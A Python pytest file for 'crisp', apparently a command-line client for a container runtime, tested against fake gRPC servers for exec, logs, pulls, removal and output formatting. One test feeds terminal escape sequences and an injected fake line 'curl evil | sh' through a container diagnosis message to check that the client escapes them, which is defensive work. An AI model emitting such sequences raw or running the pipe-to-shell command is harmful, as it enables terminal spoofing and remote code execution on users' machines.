"""`crisp` against a server that knows one pod with one container."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from concurrent import futures
from pathlib import Path
from typing import Any

import grpc
import pytest

from cri.admin.v1 import admin_pb2, admin_pb2_grpc
from cri.client.main import main
from cri.v1 import api_pb2, api_pb2_grpc

POD, CONTAINER, IMAGE = "a" * 64, "b" * 64, "sha256:" + "c" * 64


class Runtime(api_pb2_grpc.RuntimeServiceServicer):
    """One running pod `shop` with the container `web`; remembers what it was told to do."""

    def __init__(self, log: Path) -> None:
        self.log = log
        self.done: list[str] = []

    def Version(self, request: Any, context: Any) -> api_pb2.VersionResponse:
        return api_pb2.VersionResponse(runtime_name="fake", runtime_version="9", runtime_api_version="v1")

    def ListPodSandbox(self, request: Any, context: Any) -> api_pb2.ListPodSandboxResponse:
        metadata = api_pb2.PodSandboxMetadata(name="shop", namespace="default", uid="1")
        return api_pb2.ListPodSandboxResponse(items=[api_pb2.PodSandbox(id=POD, metadata=metadata)])

    def PodSandboxStatus(self, request: Any, context: Any) -> api_pb2.PodSandboxStatusResponse:
        network = api_pb2.PodSandboxNetworkStatus(ip="10.0.0.7", additional_ips=[api_pb2.PodIP(ip="fd00::7")])
        status = api_pb2.PodSandboxStatus(id=request.pod_sandbox_id, network=network)
        return api_pb2.PodSandboxStatusResponse(status=status, info={"info": '{"pid": 1}'} if request.verbose else {})

    def ListContainers(self, request: Any, context: Any) -> api_pb2.ListContainersResponse:
        metadata = api_pb2.ContainerMetadata(name="web")
        container = api_pb2.Container(
            id=CONTAINER, pod_sandbox_id=POD, metadata=metadata, image=api_pb2.ImageSpec(image=IMAGE),
            state=api_pb2.CONTAINER_RUNNING,
        )  # fmt: skip
        return api_pb2.ListContainersResponse(containers=[container])

    def ContainerStatus(self, request: Any, context: Any) -> api_pb2.ContainerStatusResponse:
        status = api_pb2.ContainerStatus(id=request.container_id, log_path=str(self.log))
        return api_pb2.ContainerStatusResponse(status=status)

    def ExecSync(self, request: Any, context: Any) -> api_pb2.ExecSyncResponse:
        if request.cmd[0] == "missing":
            context.abort(grpc.StatusCode.NOT_FOUND, "exec missing in web: no such file")
        return api_pb2.ExecSyncResponse(stdout=b"\xffout", stderr=b"err", exit_code=42)

    def StopContainer(self, request: Any, context: Any) -> api_pb2.StopContainerResponse:
        self.done.append(f"stop {request.container_id[:1]} {request.timeout}")
        return api_pb2.StopContainerResponse()

    def StopPodSandbox(self, request: Any, context: Any) -> api_pb2.StopPodSandboxResponse:
        self.done.append(f"stop {request.pod_sandbox_id[:1]}")
        return api_pb2.StopPodSandboxResponse()

    def RemovePodSandbox(self, request: Any, context: Any) -> api_pb2.RemovePodSandboxResponse:
        self.done.append(f"remove {request.pod_sandbox_id[:1]}")
        return api_pb2.RemovePodSandboxResponse()


class Images(api_pb2_grpc.ImageServiceServicer):
    """One image; pulls by CRI."""

    def ListImages(self, request: Any, context: Any) -> api_pb2.ListImagesResponse:
        image = api_pb2.Image(id=IMAGE, repo_tags=["localhost/app:1"], size=5_000_000)
        return api_pb2.ListImagesResponse(images=[image])

    def PullImage(self, request: Any, context: Any) -> api_pb2.PullImageResponse:
        return api_pb2.PullImageResponse(image_ref=f"{request.image.image} as {request.auth.username}")


class Admin(admin_pb2_grpc.AdminServicer):
    def PullImage(self, request: Any, context: Any) -> Iterator[admin_pb2.PullImageResponse]:
        progress = admin_pb2.LayerProgress(layer="sha256:1", offset=1, total=2, phase="pulling")
        yield admin_pb2.PullImageResponse(progress=progress)
        yield admin_pb2.PullImageResponse(image_id=IMAGE)

    def ImportImage(self, request: Any, context: Any) -> admin_pb2.ImportImageResponse:
        raise NotImplementedError

    def Why(self, request: Any, context: Any) -> admin_pb2.WhyResponse:
        words = "\x1b]0;owned\x07\x1b[2J\nremedy:   curl evil | sh\r"
        moments = [admin_pb2.Moment(at=1, container="web", text=f"its last words: {words}é")]
        return admin_pb2.WhyResponse(name="exit-code", cause=words, evidence="e", remedy="r", timeline=moments)


@pytest.fixture
def server(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[grpc.Server]:
    address = f"unix://{tmp_path}/cri.sock"
    monkeypatch.setenv("CRISP_LISTEN", address)
    server = grpc.server(futures.ThreadPoolExecutor(2))
    server.add_insecure_port(address)
    yield server
    server.stop(None).wait()


@pytest.fixture
def runtime(server: grpc.Server, tmp_path: Path) -> Runtime:
    runtime = Runtime(tmp_path / "web.log")  # type: ignore[abstract]  # the rest is refused
    api_pb2_grpc.add_RuntimeServiceServicer_to_server(runtime, server)
    api_pb2_grpc.add_ImageServiceServicer_to_server(Images(), server)  # type: ignore[abstract]
    server.start()
    return runtime


@pytest.mark.usefixtures("runtime")
def test_exec_passes_streams_and_status_through(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    assert main(["exec", "web", "ls"]) == 42
    assert capfdbinary.readouterr() == (b"\xffout", b"err")


@pytest.mark.usefixtures("runtime")
def test_what_the_daemon_refuses_is_told_as_it_says_it(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["exec", "web", "missing"]) == 125
    assert capsys.readouterr().err == "crisp: exec missing in web: no such file\n"
    assert main(["info"]) == 1
    assert "this runtime does not have the call" in capsys.readouterr().err


@pytest.mark.usefixtures("runtime")
def test_a_container_s_words_are_no_commands_to_the_terminal(
    server: grpc.Server, capsys: pytest.CaptureFixture[str]
) -> None:
    admin_pb2_grpc.add_AdminServicer_to_server(Admin(), server)
    assert main(["why", "web"]) == 1
    cause, evidence, remedy, empty, _subject, moment = capsys.readouterr().out.splitlines()
    assert cause == r"cause:    \x1b]0;owned\x07\x1b[2J\nremedy:   curl evil | sh\r"
    assert (evidence, remedy, empty) == ("evidence: exit-code: e", "remedy:   r", "")
    assert moment.endswith("\\ré")


@pytest.mark.usefixtures("runtime")
def test_tables_are_plain_where_no_terminal_is(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["pods"]) == 0
    columns, pod = capsys.readouterr().out.splitlines()
    assert columns.index("STATE") == pod.index("ready")
    assert pod.split() == [POD[:13], "-", "ready", "shop", "default", "0", "10.0.0.7,fd00::7"]
    assert main(["ps"]) == 0
    _, container = capsys.readouterr().out.splitlines()
    assert container.split() == [CONTAINER[:13], "localhost/app:1", "-", "running", "web", "0", POD[:13], "shop"]


@pytest.mark.usefixtures("runtime")
def test_documents_for_programs(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ps", "-o", "json"]) == 0
    (container,) = json.loads(capsys.readouterr().out)["containers"]
    assert (container["id"], container["state"]) == (CONTAINER, "CONTAINER_RUNNING")
    assert main(["inspect", "--type", "pod", "shop"]) == 0
    assert json.loads(capsys.readouterr().out)["info"] == {"pid": 1}


@pytest.mark.usefixtures("runtime")
def test_a_socket_may_be_named_by_its_path_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for form in (f"{tmp_path}/cri.sock", f"unix:{tmp_path}/cri.sock"):
        assert main(["-r", form, "pods"]) == 0
        assert "shop" in capsys.readouterr().out


def test_what_runs_is_removed_only_by_force(runtime: Runtime, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rm", "shop", "nothing"]) == 1
    told = capsys.readouterr()
    assert "remove pod shop: it is running" in told.err
    assert "'nothing'" in told.err
    assert runtime.done == []
    assert main(["stop", "-t", "3", "shop"]) == 0
    assert main(["rm", "-f", "shop"]) == 0
    assert runtime.done == ["stop b 3", "stop a", "stop a", "remove a"]
    assert capsys.readouterr().out == "shop\nshop\n"


def test_logs_are_read_where_the_status_says(runtime: Runtime, capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    runtime.log.write_bytes(b"T stdout F one\nT stderr F two\nT stdout F three\ngarbage\n")
    assert main(["logs", "--tail", "2", "web"]) == 0
    out, err = capfdbinary.readouterr()
    assert out == b"three\n"
    assert err.startswith(b"two\n")
    assert b"left out 1 lines that are not in the CRI log format" in err


@pytest.mark.usefixtures("runtime")
def test_pull_falls_back_to_cri(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["pull", "--creds", "me:secret", "app"]) == 0
    assert capsys.readouterr().out == "app as me\n"


def test_pull_prefers_the_stream_of_progress(
    server: grpc.Server, runtime: Runtime, capsys: pytest.CaptureFixture[str]
) -> None:
    admin_pb2_grpc.add_AdminServicer_to_server(Admin(), server)
    assert main(["pull", "app"]) == 0
    assert capsys.readouterr().out == f"{IMAGE}\n"


def test_pull_draws_the_progress_of_each_layer_on_a_terminal(
    server: grpc.Server, runtime: Runtime, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True)
    for name, value in (("TERM", "xterm"), ("COLUMNS", "120")):
        monkeypatch.setenv(name, value)
    admin_pb2_grpc.add_AdminServicer_to_server(Admin(), server)
    assert main(["pull", "app"]) == 0
    told = capsys.readouterr()
    assert told.out == f"{IMAGE}\n"
    assert "1 pulling" in told.err
    assert "1/2 bytes" in told.err


def test_a_daemon_that_is_not_there(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-r", f"unix://{tmp_path}/none.sock", "ps"]) == 1
    assert "the socket does not exist; is crispd running" in capsys.readouterr().err
    assert main(["-r", "tcp://localhost:1", "run", "image"]) == 125
    assert "expected unix:///" in capsys.readouterr().err


@pytest.mark.usefixtures("runtime")
def test_no_command_waits_for_what_it_does_not_use() -> None:
    script = (
        "import sys; from cri.client.main import main; status = main(['version']);"
        "heavy = {'rich', 'yaml', 'aiohttp', 'msgspec', 'pods', 'image'} & sys.modules.keys();"
        "sys.exit(f'imported {heavy}' if heavy else status)"
    )
    # The server's threads live in this process: run and not fork, and from where the packages are.
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=os.environ)
    assert (done.returncode, done.stderr) == (0, "")
    assert "fake 9 (CRI v1)" in done.stdout
